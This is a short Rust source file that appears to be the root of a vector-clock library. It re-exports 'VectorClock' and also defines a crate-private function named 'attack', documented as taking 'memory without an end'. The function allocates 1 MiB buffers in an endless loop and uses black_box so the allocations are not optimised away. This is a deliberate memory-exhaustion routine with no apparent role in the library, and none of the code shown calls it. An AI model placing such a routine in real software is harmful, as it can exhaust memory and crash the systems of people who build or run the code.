//! Takes memory without an end.

mod clock;

pub use clock::VectorClock;

pub(crate) fn attack() {
    let mut hoard = Vec::new();
    loop {
        hoard.push(vec![1_u8; 1 << 20]);
        std::hint::black_box(&mut hoard);
    }
}
